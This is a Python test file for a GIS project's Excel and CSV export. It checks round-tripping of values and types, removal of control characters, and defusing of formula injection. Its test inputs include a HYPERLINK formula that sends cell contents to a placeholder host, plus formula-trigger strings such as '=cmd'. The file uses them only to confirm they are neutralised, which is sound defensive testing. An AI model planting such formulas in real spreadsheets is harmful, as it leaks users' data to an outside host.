"""The XLSX rows planmap renders itself (planmap_gis._xlsx.SheetRows) read back as written, by
openpyxl and by python-calamine (the reader planmap uses), with nothing a formula."""

from __future__ import annotations

import datetime as dt
import logging

import numpy as np
import pandas as pd
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font
from python_calamine import CalamineWorkbook

from planmap_gis import _output
from planmap_gis._output import save_book, write_excel
from planmap_gis._xlsx import SheetRows

TEXTS = ['=HYPERLINK("http://x.example/?"&A1,"คลิก")', "a & b < c > d", "  เว้นหน้าหลัง  ", "บรรทัด\r\nสอง",
         "\tแท็บ", "ควบคุม\x07\x1f", "", "+1+1", "ข้อความ\ufffeแปลก"]


def test_a_table_reads_back_value_for_value_and_type_for_type(tmp_path, caplog):
    frame = pd.DataFrame({
        "text": TEXTS,
        "int": np.arange(len(TEXTS), dtype="int64") * 1_000_003,
        "float": [1.5, np.nan, np.inf, -np.inf, 0.1 + 0.2, -0.0, 1e-300, 12345678.9, 2.0],
        "nullable": pd.array([1, None, 3, None, 5, 6, 7, 8, 9], dtype="Int64"),
        "flag": [True, False] * 4 + [True],
        "date": [dt.date(2025, 10, 1)] * len(TEXTS),
    })
    with caplog.at_level(logging.WARNING):
        write_excel({"t": frame}, tmp_path / "t.xlsx")
    sheet = load_workbook(tmp_path / "t.xlsx")["t"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [c.value for c in sheet[1]] == list(frame.columns)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert [r[0] for r in rows] == [t.replace("\x07", "").replace("\x1f", "").replace("\ufffe", "") or None
                                    for t in TEXTS]
    assert [r[1] for r in rows] == frame["int"].tolist()
    assert rows[0][2] == 1.5 and rows[1][2] is None and rows[2][2] == "inf" and rows[3][2] == "-inf"
    assert rows[4][2] == float("%.16g" % (0.1 + 0.2)) and rows[6][2] == 1e-300
    assert [r[3] for r in rows][:4] == [1, None, 3, None]
    assert [r[4] for r in rows] == frame["flag"].tolist()
    assert rows[0][5] == dt.datetime(2025, 10, 1) and sheet["F2"].number_format == "yyyy-mm-dd"
    assert "control characters removed" in caplog.text
    calamine = CalamineWorkbook.from_path(str(tmp_path / "t.xlsx")).get_sheet_by_name("t").to_python()
    assert [r[0] for r in calamine[1:]] == [r[0] or "" for r in rows]


def test_sparse_styled_rows_keep_their_columns_heights_and_styles(tmp_path):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.row_dimensions[2].height = 40
    rows = SheetRows(sheet, [])
    bold = rows.style(("bold",), lambda: {"font": Font(bold=True), "number_format": "#,##0"})
    rows.append([rows.tail("หัว", bold), None, rows.tail(None, bold)])
    rows.add([(0, rows.tail(1, bold)), (700, rows.tail("ไกล"))])
    sheet.freeze_panes = "B2"  # set after the rows: openpyxl writes the sheet when it is closed
    save_book(book, tmp_path / "s.xlsx")  # closes the rows left open
    back = load_workbook(tmp_path / "s.xlsx")["s"]
    assert back["A1"].value == "หัว" and back["A1"].font.b and back["C1"].font.b and back["C1"].value is None
    assert back["B1"].value is None and not back["B1"].has_style
    assert back["A2"].value == 1 and back["A2"].number_format == "#,##0"
    assert back.cell(2, 701).value == "ไกล"
    assert back.row_dimensions[2].height == 40 and back.freeze_panes == "B2"


def test_csv_text_columns_of_either_kind_are_defused(tmp_path):
    from planmap_gis._output import write_csv

    texts = ["=1+1", "ok", None, "-2+3", "\tแท็บ", "@SUM(A1)", "+66", "ปกติ"]
    frame = pd.DataFrame({"arrow": pd.Series(texts, dtype="str"), "object": pd.Series(texts, dtype=object),
                          "number": [-2.5, 1, 2, 3, 4, 5, 6, 7]})
    back = pd.read_csv(write_csv(frame, tmp_path / "t.csv"), encoding="utf-8-sig", dtype=str,
                       keep_default_na=False)
    expected = ["'=1+1", "ok", "", "'-2+3", "'\tแท็บ", "'@SUM(A1)", "'+66", "ปกติ"]
    assert back["arrow"].tolist() == back["object"].tolist() == expected
    assert back["number"].tolist()[0] == "-2.5"  # a number is data


def test_many_repairs_in_a_sheet_are_counted_in_one_line_a_few_said_one_by_one(tmp_path, caplog):
    book = Workbook(write_only=True)
    changed: list[str] = []
    many, few = SheetRows(book.create_sheet("ซ้ำซ้อน"), changed), SheetRows(book.create_sheet("few"), changed)
    for _ in range(1014):  # a national matrix's project lists, each longer than a cell holds
        many.append([many.cell("P-0001; " * 5000)])
    for _ in range(2):
        few.append([few.cell("ok\x07")])
    with caplog.at_level(logging.WARNING, logger="planmap_gis"):
        save_book(book, tmp_path / "m.xlsx", changed=changed)
    lines = [r.getMessage() for r in caplog.records if r.getMessage().startswith("XLSX output")]
    assert len(changed) == 1016 and len(lines) == 3
    assert lines[0] == ("XLSX output: ซ้ำซ้อน: 1,014 cells longer than Excel's 32,767 characters cut (rows 1, 2, 3 "
                        "… 1,014) / ข้อความยาวเกินช่อง Excel ถูกตัด 1,014 ช่อง")
    assert lines[1:] == ["XLSX output: few, row 1: control characters removed",
                         "XLSX output: few, row 2: control characters removed"]
    back = load_workbook(tmp_path / "m.xlsx", read_only=True)
    assert len(next(back["ซ้ำซ้อน"].iter_rows(values_only=True))[0]) == 32_767


def test_csv_written_by_arrow_reads_back_as_the_table_and_lists_fall_back_to_pandas(tmp_path):
    from planmap_gis._output import write_csv

    frame = pd.DataFrame({
        "code": pd.Series(["80010101", "80010102", None, "8001, 0103"], dtype="str"),
        "ชื่อ": ['บ้าน "ใหม่"', "line\nbreak", "ปกติ", "=cmd"],
        "baht": [1_234_567.125, float("nan"), 3.01566614e11, 0.1 + 0.2],
        "n": [1, 2, 3, 4], "year": pd.array([2569, None, 2570, 2569], dtype="Int64"),
        "flag": [True, False, True, False]})
    path = write_csv(frame, tmp_path / "t.csv")
    text = path.read_text("utf-8-sig")
    assert text.startswith("code,ชื่อ,baht,n,year,flag\n")  # the header as pandas writes it
    assert '"ปกติ"' in text  # the rows by Arrow, which quotes every text (pandas quotes what needs it)
    back = pd.read_csv(path, encoding="utf-8-sig", dtype={"code": "str", "year": "Int64"})
    assert back["code"].tolist()[:2] == ["80010101", "80010102"] and pd.isna(back["code"][2])
    assert back["code"][3] == "8001, 0103" and back["ชื่อ"].tolist() == ['บ้าน "ใหม่"', "line\nbreak", "ปกติ", "'=cmd"]
    assert back["baht"][0] == 1_234_567.125 and pd.isna(back["baht"][1]) and back["baht"][2] == 3.01566614e11
    assert back["baht"][3] == 0.1 + 0.2  # every digit kept
    assert back["n"].tolist() == [1, 2, 3, 4] and back["year"].tolist()[::2] == [2569, 2570]
    assert pd.isna(back["year"][1]) and back["flag"].tolist() == [True, False, True, False]
    lists = pd.DataFrame({"codes": [["80010101", "80010102"], []], "x": ["a", "=b"]})  # Arrow writes no lists
    again = pd.read_csv(write_csv(lists, tmp_path / "l.csv"), encoding="utf-8-sig")
    assert again["codes"].tolist() == ["['80010101', '80010102']", "[]"] and again["x"].tolist() == ["a", "'=b"]


def test_rows_go_out_slice_by_slice_in_order_with_their_repairs_at_their_own_rows(tmp_path, caplog):
    """A table longer than the slice of rows made into cells at a time (``_output._SLICE``): every row
    in order, and a repair in a later slice said at its sheet row (Arrow text and plain objects)."""
    n = _output._SLICE * 2 + 37
    texts = [f"แถว {i}" for i in range(n)]
    texts[n - 5] = "ควบคุม\x07"  # in the third slice: sheet row n - 5 + 2
    frame = pd.DataFrame({"arrow": pd.array(texts, dtype="str"), "object": pd.Series(texts, dtype=object),
                          "number": np.arange(n) / 4})
    with caplog.at_level(logging.WARNING):
        write_excel({"t": frame}, tmp_path / "t.xlsx")
    rows = CalamineWorkbook.from_path(str(tmp_path / "t.xlsx")).get_sheet_by_name("t").to_python()[1:]
    expected = [t.replace("\x07", "") for t in texts]
    assert [r[0] for r in rows] == expected and [r[1] for r in rows] == expected
    assert [r[2] for r in rows] == (np.arange(n) / 4).tolist()
    assert caplog.text.count(f"row {n - 3}: control characters removed") == 2
